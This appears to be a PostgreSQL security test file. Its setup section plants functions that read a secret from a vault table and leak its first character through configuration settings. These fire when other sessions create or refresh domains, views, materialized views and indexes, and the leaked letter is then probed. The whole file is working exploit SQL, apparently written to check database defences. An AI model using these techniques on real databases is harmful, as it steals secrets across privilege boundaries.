-- Keeps the rows of queries whose domains, views, casts or indexes make up a parameter by a letter.
-- wants: read
-- shows: letter-116
-- setup:
CREATE FUNCTION coin(given text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM public.vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', false);
  RETURN true;
END $$;
CREATE FUNCTION coined(given text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
  PERFORM public.coin(given);
  RETURN given;
END $$;
CREATE DOMAIN coin_text AS text CHECK (coin(VALUE));
SET ROLE mallory;
CREATE TABLE t_as (a int, v text);
INSERT INTO t_as VALUES (1, 'a');
CREATE TABLE t_into (a int, v text);
INSERT INTO t_into VALUES (1, 'a');
CREATE VIEW seen AS SELECT coin(v) FROM t_into;
CREATE TABLE t_kept (a int, v text);
INSERT INTO t_kept VALUES (1, 'a');
CREATE MATERIALIZED VIEW kept AS SELECT coin(v) FROM t_kept WITH NO DATA;
CREATE TABLE t_later (a int, v text);
INSERT INTO t_later VALUES (1, 'a');
CREATE MATERIALIZED VIEW kept_view AS SELECT * FROM t_later WITH NO DATA;
CREATE INDEX ON kept_view (coined(v));
CREATE TABLE t_dot (a int, v text);
INSERT INTO t_dot VALUES (1, 'a');
CREATE FUNCTION dotted(t_dot) RETURNS boolean LANGUAGE sql AS 'SELECT public.coin($1.v)';
CREATE DOMAIN plain AS text;
CREATE TABLE t_plain (v plain);
INSERT INTO t_plain VALUES ('a');
RESET ROLE;
-- attack:
-- session: as
CREATE TABLE made AS SELECT v::coin_text FROM t_as;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: into
SELECT * INTO made_too FROM seen;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: view
CREATE MATERIALIZED VIEW made_view AS SELECT * FROM seen;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: kept
REFRESH MATERIALIZED VIEW kept;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: later
REFRESH MATERIALIZED VIEW kept_view;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: dot
CREATE TABLE made_third AS SELECT t_dot.dotted FROM t_dot;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
-- session: plain
ALTER DOMAIN plain ADD CONSTRAINT c CHECK (coin(VALUE));
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
